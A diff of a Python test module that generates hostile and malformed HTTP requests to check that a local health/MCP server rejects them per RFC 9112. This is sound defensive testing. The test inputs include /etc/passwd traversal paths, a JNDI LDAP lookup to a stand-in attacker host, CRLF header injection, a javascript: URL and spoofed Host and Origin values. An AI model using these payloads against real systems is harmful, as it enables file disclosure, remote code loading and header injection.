@@ -5,7 +5,21 @@ from __future__ import annotations
 import random
 from collections.abc import Iterable
 
-from tests.hostile.case import CLOSED, Draft, Kind, Outcome, chosen, cut, head, legacy, modern, rendered, token
+from tests.hostile.case import (
+    CLOSED,
+    Draft,
+    Outcome,
+    chosen,
+    cut,
+    head,
+    kinds_of,
+    legacy,
+    listed,
+    modern,
+    picked,
+    rendered,
+    token,
+)
 
 HOST = [("Host", "localhost")]
 
@@ -91,34 +105,19 @@ def version_major(rng: random.Random) -> Draft:
 
 
 def version_garbled(rng: random.Random) -> Draft:
-    version = chosen(
-        rng,
-        "HTTP/1.10",
-        "HTTP/1",
-        "http/1.1",
-        "HTTP/01.1",
-        "HTTP/1.1x",
-        "HTTP/1,1",
-        "HTTPS/1.1",
-        "HTTP/+1.1",
-        "1.1",
-        "HTTP/",
+    version = picked(
+        rng, "HTTP/1.10 | HTTP/1 | http/1.1 | HTTP/01.1 | HTTP/1.1x | HTTP/1,1 | HTTPS/1.1 | HTTP/+1.1 | 1.1 | HTTP/"
     )
     rule = "RFC 9112, 2.3 and 3: an invalid request-line is 400"
     return health(rng, rule, {400, 505}, line=f"GET /health {version}", closes=True)
 
 
 def line_spaces(rng: random.Random) -> Draft:
-    line = chosen(
+    line = picked(
         rng,
-        "GET  /health HTTP/1.1",
-        "GET /health  HTTP/1.1",
-        "GET\t/health\tHTTP/1.1",
-        " GET /health HTTP/1.1",
-        "GET /health HTTP/1.1 ",
-        "GET /health HTTP/1.1\t",
-        "GET\x0b/health HTTP/1.1",
-        "GET\r/health HTTP/1.1",
+        "GET  /health HTTP/1.1 | GET /health  HTTP/1.1 | GET\t/health\tHTTP/1.1 | "
+        " GET /health HTTP/1.1 | GET /health HTTP/1.1  | GET /health HTTP/1.1\t | "
+        "GET\x0b/health HTTP/1.1 | GET\r/health HTTP/1.1",
     )
     return health(rng, "RFC 9112, 3: white space may be parsed leniently, else 400", {200, 400}, line=line)
 
@@ -161,18 +160,10 @@ def target_unknown(rng: random.Random) -> Draft:
         "/" + token(rng),
         "/health/" + token(rng),
         "/mcp/" + token(rng),
-        "/healthz",
-        "/mcp%00",
-        "/mcp%2Fx",
-        "/%",
-        "/%zz",
-        "/%ff%fe",
-        "/%C0%AF",
-        "/mcp;a=b",
-        "/.git/config",
-        "/cgi-bin/%%32%65%%32%65/etc/passwd",
-        "/health%20",
-        "/health%0d%0aSet-Cookie:a=b",
+        *listed(
+            "/healthz | /mcp%00 | /mcp%2Fx | /% | /%zz | /%ff%fe | /%C0%AF | /mcp;a=b | /.git/config | "
+            "/cgi-bin/%%32%65%%32%65/etc/passwd | /health%20 | /health%0d%0aSet-Cookie:a=b"
+        ),
         "/" + "%2e%2e/" * rng.randint(1, 50) + "etc/passwd",
         "/${jndi:ldap://evil.example/a}",
         "/" + "a/" * rng.randint(1, 2000),
@@ -221,24 +212,12 @@ def target_absolute_foreign(rng: random.Random) -> Draft:
 
 
 def target_absolute_broken(rng: random.Random) -> Draft:
-    target = chosen(
+    target = picked(
         rng,
-        "http://",
-        "http:///mcp",
-        "http://user:pass@localhost/mcp",
-        "http:/mcp",
-        "http:mcp",
-        "ftp://localhost/mcp",
-        "file:///mcp",
-        "http://local host/mcp",
-        "http://[::1/mcp",
-        "http://localhost:x/mcp",
-        "javascript:alert(1)",
-        "://localhost/mcp",
-        "http://localhost:80:80/mcp",
-        "http://?/mcp",
-        "http://#/mcp",
-        "http://localhost\\@evil.example/mcp",
+        "http:// | http:///mcp | http://user:pass@localhost/mcp | http:/mcp | http:mcp | "
+        "ftp://localhost/mcp | file:///mcp | http://local host/mcp | http://[::1/mcp | "
+        "http://localhost:x/mcp | javascript:alert(1) | ://localhost/mcp | http://localhost:80:80/mcp | "
+        "http://?/mcp | http://#/mcp | http://localhost\\@evil.example/mcp",
     )
     message = modern(rng)
     message.target = target
@@ -375,25 +354,11 @@ def host_twice(rng: random.Random) -> Draft:
 
 
 def host_invalid(rng: random.Random) -> Draft:
-    host = chosen(
+    host = picked(
         rng,
-        "local host",
-        "localhost, localhost",
-        "user@localhost",
-        "localhost/",
-        "localhost:80:80",
-        "localhost:x",
-        "http://localhost",
-        "localhost?",
-        "localhost#",
-        "[::1",
-        "::1",
-        "[::1]x",
-        "localhost\\",
-        "localhost:-1",
-        "loc\xe9lhost",
-        "<localhost>",
-        "localhost%",
+        "local host | localhost, localhost | user@localhost | localhost/ | localhost:80:80 | "
+        "localhost:x | http://localhost | localhost? | localhost# | [::1 | ::1 | [::1]x | localhost\\ | "
+        "localhost:-1 | loc\xe9lhost | <localhost> | localhost%",
     )
     message = modern(rng).set("Host", host)
     rule = "RFC 9112, 3.2: a Host with an invalid value is 400; S, Security Warning: a foreign one is 403"
@@ -403,17 +368,10 @@ def host_invalid(rng: random.Random) -> Draft:
 def host_foreign(rng: random.Random) -> Draft:
     host = chosen(
         rng,
-        "evil.example",
-        "localhost.evil.example",
-        "evil.example:80",
-        "127.0.0.1.nip.io",
-        "0.0.0.0",
-        "2130706433",
-        "127.1",
-        "localhost.localdomain",
-        "[::2]",
-        "",
-        "xlocalhost",
+        *listed(
+            "evil.example | localhost.evil.example | evil.example:80 | 127.0.0.1.nip.io | 0.0.0.0 | "
+            "2130706433 | 127.1 | localhost.localdomain | [::2] |  | xlocalhost"
+        ),
         token(rng) + ".example",
     )
     message = chosen(rng, modern, legacy)(rng).set("Host", host)
@@ -433,14 +391,13 @@ def host_spelt(rng: random.Random) -> Draft:
 def origin_foreign(rng: random.Random) -> Draft:
     origins = chosen(
         rng,
-        ["http://evil.example"],
-        ["https://localhost.evil.example"],
-        ["null"],
-        [""],
-        ["http://localhost:80@evil.example"],
-        ["http://localhost evil"],
-        ["localhost"],
-        ["http://"],
+        *(
+            [each]
+            for each in listed(
+                "http://evil.example | https://localhost.evil.example | null |  | "
+                "http://localhost:80@evil.example | http://localhost evil | localhost | http://"
+            )
+        ),
         ["http://localhost/", "http://evil.example"],
         ["http://localhost", "http://evil.example"],
         ["file://"],
@@ -503,56 +460,4 @@ def nothing(rng: random.Random) -> Draft:
     )
 
 
-KINDS: dict[str, Kind] = {
-    function.__name__: function
-    for function in (
-        unknown_method,
-        method_elsewhere,
-        method_case,
-        method_no_token,
-        method_long,
-        connect,
-        version_zero,
-        version_minor,
-        version_major,
-        version_garbled,
-        line_spaces,
-        line_short,
-        line_empty_before,
-        target_space,
-        target_bytes,
-        target_unknown,
-        target_same,
-        target_dots,
-        target_fragment,
-        target_absolute,
-        target_absolute_foreign,
-        target_absolute_broken,
-        target_other_form,
-        target_long,
-        target_longish,
-        name_invalid,
-        name_space,
-        name_missing,
-        first_line_folded,
-        folded,
-        value_forbidden,
-        value_control,
-        value_obs_text,
-        bare_line_feeds,
-        many_fields,
-        long_field,
-        some_fields,
-        host_missing,
-        host_missing_in_1_0,
-        host_twice,
-        host_invalid,
-        host_foreign,
-        host_spelt,
-        origin_foreign,
-        origin_own,
-        garbage,
-        endless_line,
-        nothing,
-    )
-}
+KINDS = kinds_of(__name__)
